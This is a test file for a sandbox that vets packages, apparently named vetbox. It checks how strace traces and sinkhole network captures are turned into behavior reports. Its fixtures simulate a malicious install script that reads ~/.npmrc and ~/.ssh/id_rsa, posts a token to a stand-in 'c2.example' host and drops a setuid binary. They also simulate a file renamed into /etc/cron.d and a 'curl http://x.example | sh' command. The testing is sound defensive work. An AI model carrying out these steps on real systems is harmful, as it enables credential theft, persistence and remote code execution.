import { Behavior, type SandboxInfo, type SinkholeCapture } from '@vetbox/contracts';
import { parseTraceText } from '@vetbox/trace';
import { describe, expect, it } from 'vitest';
import { buildBehavior } from './build.js';
import { decodeDnsQuery } from './dns.js';

const sandbox: SandboxInfo = {
  image: 'vetbox-sandbox',
  hostname: 'sbx',
  user: 'node',
  home: '/home/node',
  workdir: '/w',
  packageDirs: ['/w/node_modules/evil'],
  network: 'sinkhole',
};

/** A DNS query as strace prints its bytes (`\xNN` for the unprintable ones). */
function dnsQuery(name: string, qtype: number): string {
  const labels = name.split('.').flatMap((l) => [l.length, ...Buffer.from(l)]);
  const bytes = Buffer.from([0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, qtype, 0, 1]);
  let s = '';
  for (const b of bytes) s += b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c ? String.fromCharCode(b) : `\\x${b.toString(16).padStart(2, '0')}`;
  return s;
}

// npm runs a lifecycle script that reads ~/.npmrc, resolves a name, posts to a C2 over HTTP and
// opens a TLS connection; npm itself reads ~/.npmrc and its cache.
const NPM_TRACE = `
100 1000.000000 execve("/usr/bin/npm", ["npm", "rebuild", "--foreground-scripts"], 0x7ffd /* 20 vars */) = 0
100 1000.010000 openat(AT_FDCWD</w>, "/home/node/.npmrc", O_RDONLY|O_CLOEXEC) = 3</home/node/.npmrc>
100 1000.020000 openat(AT_FDCWD</w>, "/home/node/.npm/_cacache/index-v5/aa/bb", O_RDONLY) = 4</home/node/.npm/_cacache/index-v5/aa/bb>
100 1000.030000 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, exit_signal=0} <unfinished ...>
102 1000.031000 openat(AT_FDCWD</w>, "/w/node_modules/evil/package.json", O_RDONLY) = 5</w/node_modules/evil/package.json>
100 1000.032000 <... clone3 resumed> => {parent_tid=[102]}, 88) = 102
100 1000.040000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD <unfinished ...>
101 1000.041000 execve("/bin/sh", ["sh", "-c", "node install.js"], 0x7ffd /* 20 vars */) = 0
100 1000.042000 <... clone resumed>, child_tidptr=0x7f) = 101
101 1000.050000 chdir("/w/node_modules/evil") = 0
101 1000.060000 openat(AT_FDCWD</w/node_modules/evil>, "/home/node/.npmrc", O_RDONLY) = 3</home/node/.npmrc>
101 1000.061000 openat(AT_FDCWD</w/node_modules/evil>, "/home/node/.npmrc", O_RDONLY) = 3</home/node/.npmrc>
101 1000.070000 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 4<UDP:[1001]>
101 1000.071000 connect(4<UDP:[1001]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.1")}, 16) = 0
101 1000.072000 sendmmsg(4<UDP:[10.0.0.2:40000->10.0.0.1:53]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="${dnsQuery('exfil.example', 1)}", iov_len=31}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=31}], 1, MSG_NOSIGNAL) = 1
101 1000.080000 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 5<TCP:[1002]>
101 1000.081000 connect(5<TCP:[1002]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("198.51.100.9")}, 16) = -1 EINPROGRESS (Operation now in progress)
101 1000.082000 write(5<TCP:[10.0.0.2:43518->198.51.100.9:4444]>, "POST /x HTTP/1.1\\r\\nHost: c2.example:4444\\r\\n\\r\\ntoken", 49) = 49
101 1000.090000 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 6<TCP:[1003]>
101 1000.091000 connect(6<TCP:[1003]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 EINPROGRESS (Operation now in progress)
101 1000.092000 getsockopt(6<TCP:[10.0.0.2:43600->203.0.113.7:443]>, SOL_SOCKET, SO_ERROR, [0], [4]) = 0
101 1000.093000 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 7<TCP:[1004]>
101 1000.094000 connect(7<TCP:[1004]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.51.100.20")}, 16) = -1 EINPROGRESS (Operation now in progress)
101 1000.200000 exit_group(0)   = ?
101 1000.200100 +++ exited with 0 +++
100 1000.300000 exit_group(0)   = ?
102 1000.300100 +++ exited with 0 +++
100 1000.300200 +++ exited with 0 +++
`;

const capture: SinkholeCapture = {
  answerAddress: '198.51.100.9',
  dns: [
    { t: 1000_072.5, name: 'exfil.example', type: 'A', srcPort: 40000, answer: '198.51.100.9' },
    { t: 1000_073, name: 'other.example', type: 'A', answer: '198.51.100.20' },
  ],
  streams: [
    {
      t: 1000_082.2,
      protocol: 'tcp',
      srcPort: 43518,
      dst: { address: '198.51.100.9', port: 4444 },
      kind: 'http',
      http: [
        {
          method: 'POST',
          host: 'c2.example:4444',
          path: '/x',
          headers: { host: 'c2.example:4444' },
          bodyBase64: Buffer.from('token\x00\x01').toString('base64'),
          bodyBytes: 7,
        },
      ],
      dataBase64: Buffer.from('POST /x HTTP/1.1\r\nHost: c2.example:4444\r\n\r\ntoken').toString('base64'),
      bytes: 49,
    },
    {
      t: 1000_092.5,
      protocol: 'tcp',
      srcPort: 43600,
      dst: { address: '203.0.113.7', port: 443 },
      kind: 'tls',
      sni: 'api.example',
      http: [{ method: 'GET', host: 'api.example', path: '/v1', headers: {}, bodyBase64: '', bodyBytes: 0 }],
      dataBase64: '',
      bytes: 517,
    },
    { t: 1000_150, protocol: 'tcp', srcPort: 50000, dst: { address: '192.0.2.99', port: 6667 }, kind: 'raw', http: [], dataBase64: Buffer.from('NICK x\n').toString('base64'), bytes: 7 },
  ],
};

describe('attribution: package manager versus lifecycle script', async () => {
  const b = await buildBehavior({ phases: [{ name: 'install', events: parseTraceText(NPM_TRACE) }], sandbox });

  it('marks npm as housekeeping and the script as the package; threads are not processes', () => {
    expect(b.processes.map((p) => [p.pid, p.ppid, p.argv.join(' '), p.housekeeping ?? false])).toEqual([
      [100, null, 'npm rebuild --foreground-scripts', true],
      [101, 100, 'sh -c node install.js', false],
    ]);
  });

  it('folds ~/.npmrc read by npm, but lists it read by the script (deduplicated, counted)', () => {
    const npmrc = b.files.filter((f) => f.path === '/home/node/.npmrc');
    expect(npmrc).toEqual([{ phase: 'install', pid: 101, path: '/home/node/.npmrc', op: 'read', result: 'ok', count: 2, tMs: 1000060 }]);
    const hk = Object.fromEntries((b.housekeeping ?? []).map((h) => [h.category, h]));
    expect(hk['package-manager-config'].examples).toEqual(['/home/node/.npmrc']);
    expect(hk['package-manager-cache'].count).toBe(1);
    // The thread 102 read happened before clone3 returned; it is still npm's.
    expect(hk['package-manager'].examples).toContain('/w/node_modules/evil/package.json');
  });
});

describe('merge with a sinkhole capture', async () => {
  const b = await buildBehavior({ phases: [{ name: 'install', events: parseTraceText(NPM_TRACE) }], sandbox, capture });

  it('stays valid under the contract', () => {
    expect(() => Behavior.parse(b)).not.toThrow();
  });

  it('joins streams to connections by source port and fills hostname and what was sent', () => {
    const byDst = Object.fromEntries(b.network.connections.map((c) => [`${c.address}:${c.port}`, c]));
    const c2 = byDst['198.51.100.9:4444'];
    expect(c2).toMatchObject({ pid: 101, sourcePort: 43518, hostname: 'c2.example', sentBytes: 49 });
    expect(c2.sent).toBe('POST /x HTTP/1.1\\r\\nHost: c2.example:4444\\r\\n\\r\\ntoken');
    expect(byDst['203.0.113.7:443']).toMatchObject({ pid: 101, sourcePort: 43600, hostname: 'api.example' });
    // No stream, but the DNS answer handed out that address just before the connect.
    expect(byDst['198.51.100.20:80']).toMatchObject({ pid: 101, hostname: 'other.example' });
    // A stream the trace never showed is kept, unattributed.
    expect(byDst['192.0.2.99:6667']).toMatchObject({ pid: 0, syscall: 'sinkhole', sent: 'NICK x\\n', sourcePort: 50000 });
  });

  it('lists http (tls flag, printable body preview), tls and dns with pids', () => {
    expect(b.network.http).toEqual([
      {
        phase: 'install',
        method: 'POST',
        host: 'c2.example:4444',
        path: '/x',
        headers: { host: 'c2.example:4444' },
        bodyPreview: 'token\\x00\\x01',
        bodyBytes: 7,
        pid: 101,
        destination: { address: '198.51.100.9', port: 4444 },
      },
      {
        phase: 'install',
        method: 'GET',
        host: 'api.example',
        path: '/v1',
        headers: {},
        bodyPreview: '',
        bodyBytes: 0,
        tls: true,
        pid: 101,
        destination: { address: '203.0.113.7', port: 443 },
      },
    ]);
    expect(b.network.tls).toEqual([{ phase: 'install', sni: 'api.example', pid: 101, destination: { address: '203.0.113.7', port: 443 } }]);
    // exfil.example: seen by both the trace (decoded sendmmsg) and the sinkhole, listed once.
    expect(b.network.dns.map((d) => `${d.name} ${d.type} ${d.pid ?? '-'}`)).toEqual(['exfil.example A 101', 'other.example A -']);
    // What the sinkhole answered: sandbox-internal, so exports never list it as the host's address.
    expect(b.network.dns.map((d) => d.answer)).toEqual(['198.51.100.9', '198.51.100.20']);
  });
});

describe('paths, dirfds and creation', () => {
  it('resolves dirfd-relative paths, fchdir, and O_CREAT on a path the snapshot saw added', async () => {
    const text = `
1 1.000000 execve("/bin/sh", ["sh", "-c", "x"], 0x1 /* 1 var */) = 0
1 1.100000 openat(3</home/node/.ssh>, "id_rsa", O_RDONLY) = 4</home/node/.ssh/id_rsa>
1 1.200000 fchdir(3</home/node/.ssh>) = 0
1 1.300000 unlink("../x") = -1 ENOENT (No such file or directory)
1 1.400000 openat(AT_FDCWD</tmp>, "drop.bin", O_WRONLY|O_CREAT|O_TRUNC, 0755) = 5</tmp/drop.bin>
1 1.500000 openat(AT_FDCWD</tmp>, "new", O_WRONLY|O_CREAT|O_EXCL, 0600) = 6</tmp/new>
1 1.600000 fchmodat(AT_FDCWD</tmp>, "drop.bin", 04755) = 0
1 1.700000 execve("/tmp/drop.bin", ["/tmp/drop.bin"], 0x1 /* 1 var */) = -1 EACCES (Permission denied)
1 1.800000 renameat2(AT_FDCWD</tmp>, "new", 7</etc>, "cron.d/x", RENAME_NOREPLACE) = 0
1 1.900000 newfstatat(AT_FDCWD</tmp>, "/.dockerenv", 0x7ffd, 0) = -1 ENOENT (No such file or directory)
1 2.000000 +++ exited with 0 +++
`;
    const b = await buildBehavior({
      phases: [{ name: 'import', events: parseTraceText(text) }],
      sandbox,
      fileChanges: [{ phase: 'import', path: '/tmp/drop.bin', kind: 'added' }],
    });
    expect(b.files.map((f) => `${f.op} ${f.path} ${f.result}${f.target ? ` -> ${f.target}` : ''}${f.mode ? ` ${f.mode}` : ''}`)).toEqual([
      'exec /bin/sh ok',
      'read /home/node/.ssh/id_rsa ok',
      'delete /home/node/x ENOENT',
      'create /tmp/drop.bin ok',
      'create /tmp/new ok',
      'chmod /tmp/drop.bin ok 04755',
      'exec /tmp/drop.bin EACCES',
      'rename /tmp/new ok -> /etc/cron.d/x',
      'stat /.dockerenv ENOENT',
    ]);
    expect(b.processes[0].cwd).toBe('/tmp');
  });
});

describe('decodeDnsQuery', () => {
  it('reads the question and rejects responses and junk', () => {
    const q = Buffer.from('abcd01000001000000000000076578616d706c65036f72670000100001', 'hex');
    expect(decodeDnsQuery(q)).toEqual({ name: 'example.org', type: 'TXT' });
    const resp = Buffer.from(q);
    resp[2] = 0x81;
    expect(decodeDnsQuery(resp)).toBeNull();
    expect(decodeDnsQuery(Buffer.from('hello world, not dns at all'))).toBeNull();
    expect(decodeDnsQuery(Buffer.alloc(3))).toBeNull();
  });
});

describe('process edge cases', () => {
  it('keeps both processes when a pid is reused, and adopts pids whose parent never said', async () => {
    const text = `
1 1.0 execve("/bin/sh", ["sh"], 0x1 /* 1 var */) = 0
1 1.1 vfork() = 2
2 1.2 execve("/bin/true", ["true"], 0x1 /* 1 var */) = 0
2 1.3 +++ exited with 0 +++
1 1.4 vfork() = 2
2 1.5 execve("/bin/false", ["false"], 0x1 /* 1 var */) = 0
2 1.6 +++ exited with 1 +++
9 1.7 execve("/bin/orphan", ["orphan"], 0x1 /* 1 var */) = 0
1 1.8 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'install', events: parseTraceText(text) }] });
    expect(b.processes.map((p) => [p.pid, p.ppid, p.argv[0], p.exit?.code ?? null, p.outlived ?? false])).toEqual([
      [1, null, 'sh', 0, false],
      [2, 1, 'true', 0, false],
      [2, 1, 'false', 1, false],
      [9, null, 'orphan', null, true],
    ]);
  });
});

describe('getaddrinfo address selection', () => {
  it("folds glibc's port-0 UDP connects (RFC 6724 source probes) instead of listing them as connections", async () => {
    const trace = `
101 1000.000000 execve("/usr/bin/node", ["node", "x.js"], 0x7ffd /* 20 vars */) = 0
101 1000.010000 socket(AF_INET6, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 5<UDPv6:[2001]>
101 1000.011000 connect(5<UDPv6:[2001]>, {sa_family=AF_INET6, sin6_port=htons(0), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2606:4700::6810:84e5", &sin6_addr), sin6_scope_id=0}, 28) = 0
101 1000.012000 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 6<UDP:[2002]>
101 1000.013000 connect(6<UDP:[2002]>, {sa_family=AF_INET, sin_port=htons(0), sin_addr=inet_addr("104.16.3.7")}, 16) = 0
101 1000.020000 socket(AF_INET6, SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 7<TCPv6:[2003]>
101 1000.021000 connect(7<TCPv6:[2003]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2606:4700::6810:84e5", &sin6_addr), sin6_scope_id=0}, 28) = -1 EINPROGRESS (Operation now in progress)
101 1000.100000 exit_group(0)   = ?
101 1000.100100 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'install', events: parseTraceText(trace) }], sandbox });
    expect(b.network.connections.map((c) => `${c.protocol}:${c.address}:${c.port}`)).toEqual(['tcp:2606:4700::6810:84e5:443']);
    expect(b.housekeeping?.find((h) => h.category === 'address-selection')?.count).toBe(2);
  });
});

describe("the idle window's harness shell", () => {
  const script = `'npm' 'rebuild' 'evil' '--foreground-scripts'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`;
  const trace = (root: string) => `
1 1.0 execve("/bin/sh", ${root}, 0x1 /* 1 var */) = 0
1 1.1 vfork() = 2
2 1.2 execve("/usr/bin/npm", ["npm", "rebuild", "evil", "--foreground-scripts"], 0x1 /* 1 var */) = 0
2 1.3 vfork() = 3
3 1.4 execve("/bin/sh", ["sh", "-c", "node install.js"], 0x1 /* 1 var */) = 0
3 1.5 +++ exited with 0 +++
2 1.6 +++ exited with 0 +++
1 1.7 vfork() = 4
4 1.8 execve("/usr/bin/node", ["node", "/usr/local/libexec/import-npm.cjs", "evil"], 0x1 /* 1 var */) = 0
4 1.9 +++ exited with 0 +++
1 2.0 +++ exited with 0 +++
`;
  const housekeeping = async (root: string) => {
    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(trace(root)) }], sandbox });
    return b.processes.map((p) => [p.argv[0], p.housekeeping ?? false]);
  };

  it('is housekeeping as the phase root; the steps it starts are judged as in their own phases', async () => {
    expect(await housekeeping(JSON.stringify(['/bin/sh', '-c', script]))).toEqual([
      ['/bin/sh', true],
      ['npm', true],
      ['sh', false],
      ['node', false],
    ]);
  });

  it('the steps runner (the install phase\'s `npm install` again, then the import) is housekeeping as the phase root', async () => {
    const runner = ['node', '/usr/local/libexec/steps.cjs', 'npm', 'install', ';', 'node', '/usr/local/libexec/import-npm.cjs', 'evil'];
    const steps = trace(JSON.stringify(runner)).replace('execve("/bin/sh"', 'execve("/usr/bin/node"').replace('["npm", "rebuild", "evil", "--foreground-scripts"]', '["npm", "install"]');
    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(steps) }], sandbox });
    expect(b.processes.map((p) => [p.argv.slice(0, 2).join(' '), p.housekeeping ?? false])).toEqual([
      ['node /usr/local/libexec/steps.cjs', true],
      ['npm install', true],
      ['sh -c', false],
      ['node /usr/local/libexec/import-npm.cjs', false],
    ]);
  });

  it("a Python step (python3 reading the harness from stdin) is named by its script; package code in it stays evidence", async () => {
    const runner = ['node', '/usr/local/libexec/steps.cjs', '--python', '/usr/local/libexec/execute-py.py', '3000', '15000', 'evil'];
    const steps = `
1 1.0 execve("/usr/bin/node", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
1 1.1 vfork() = 2
2 1.2 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
2 1.3 vfork() = 3
3 1.4 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
3 1.5 +++ exited with 0 +++
2 1.6 +++ exited with 0 +++
1 2.0 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'execute', events: parseTraceText(steps) }], sandbox });
    expect(b.processes.map((p) => [p.argv.join(' '), p.housekeeping ?? false])).toEqual([
      [runner.join(' '), true],
      ['python3 /usr/local/libexec/execute-py.py 3000 15000 evil', false],
      // The package's own `python3` (not the runner's child) keeps its argv.
      ['python3', false],
    ]);
  });

  it('the bash steps runner: its re-exec as plain `bash` keeps its argv (housekeeping); a Python step is named by its script', async () => {
    const script = [
      '{ exec 0<&3 3<&-',
      "'python3' '-m' 'pip' 'install' 'dist/evil-1.0.tar.gz'",
      `python3 <<< 'import os, sys; sys.argv[:] = ["","evil","evil_mod"]; os.dup2(_fd := os.open(os.devnull, os.O_RDONLY), 0); os.close(_fd); del _fd\n'"$(< '/usr/local/libexec/import-py.py')"`,
    ].join('\n');
    const runner = ['/bin/bash', '-c', 'exec 3<&0; exec -a bash /bin/bash <<< "$1"', 'bash', script];
    const steps = `
1 1.0 execve("/bin/bash", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
1 1.1 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
1 1.2 vfork() = 2
2 1.3 execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "dist/evil-1.0.tar.gz"], 0x1 /* 1 var */) = 0
2 1.4 +++ exited with 0 +++
1 1.5 vfork() = 3
3 1.6 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
3 1.7 vfork() = 4
4 1.8 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
4 1.9 +++ exited with 0 +++
3 2.0 +++ exited with 0 +++
1 2.1 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(steps) }], sandbox });
    expect(b.processes.map((p) => [p.argv.join(' ').slice(0, 60), p.housekeeping ?? false])).toEqual([
      [runner.join(' ').slice(0, 60), true],
      ['python3 -m pip install dist/evil-1.0.tar.gz', true],
      ['python3 /usr/local/libexec/import-py.py evil evil_mod', false],
      // A `bash` the package's code starts is its own, not the runner.
      ['bash', false],
    ]);
  });

  it.each([
    ['a PyPI harness (before it ran in a namespace of its own)', 'python3', `exec python3 <<< 'import os, sys; sys.argv[:] = ["","evil"]; os.dup2(_fd := os.open(os.devnull, os.O_RDONLY), 0); os.close(_fd); del _fd\n'"$(< '/usr/local/libexec/import-py.py')"`, 'python3 /usr/local/libexec/import-py.py evil'],
    // As services/sandbox commands.ts pythonStep and nodeStep write them.
    ['a PyPI harness', 'python3', `exec python3 <<< 'exec(compile(open("/usr/local/libexec/import-py.py").read(), "<stdin>", "exec"), {"__name__": "__main__", "__builtins__": __builtins__, "argv": ["","evil"]})'`, 'python3 /usr/local/libexec/import-py.py evil'],
    ['an npm harness', 'node', `exec node <<< '(function (argv) {'"$(< '/usr/local/libexec/execute-npm.cjs')"'\n})(["3000","15000","evil"]);'`, 'node /usr/local/libexec/execute-npm.cjs 3000 15000 evil'],
  ])('the runner executing its only step (%s): the step is the root, named by its script, not housekeeping', async (_what, program, step, named) => {
    const script = `{ exec 0<&3 3<&-\n${step}\nexit\n}`;
    const runner = ['/bin/bash', '-c', 'exec 3<&0; exec -a bash /bin/bash <<< "$1"', 'bash', script];
    const steps = `
1 1.0 execve("/bin/bash", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
1 1.1 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
1 1.2 execve("/usr/bin/${program}", ["${program}"], 0x1 /* 1 var */) = 0
1 1.3 vfork() = 2
2 1.4 execve("/usr/bin/curl", ["curl", "http://x.example"], 0x1 /* 1 var */) = 0
2 1.5 +++ exited with 0 +++
1 2.0 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'import', events: parseTraceText(steps) }], sandbox });
    expect(b.processes.map((p) => [p.argv.join(' '), p.housekeeping ?? false])).toEqual([
      [named, false],
      ['curl http://x.example', false],
    ]);
  });

  it('a look-alike shell that is not the root, or runs anything else, stays evidence', async () => {
    expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `${script}; curl http://x.example | sh`])))[0]).toEqual(['/bin/sh', false]);
    expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `'curl' 'http://x.example'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`])))[0]).toEqual(['/bin/sh', false]);
    // Package code running the very same command: a child, so evidence.
    const nested = `
1 1.0 execve("/usr/bin/node", ["node", "install.js"], 0x1 /* 1 var */) = 0
1 1.1 vfork() = 2
2 1.2 execve("/bin/sh", ${JSON.stringify(['/bin/sh', '-c', script])}, 0x1 /* 1 var */) = 0
2 1.3 +++ exited with 0 +++
1 1.4 +++ exited with 0 +++
`;
    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(nested) }], sandbox });
    expect(b.processes.map((p) => p.housekeeping ?? false)).toEqual([false, false]);
  });
});
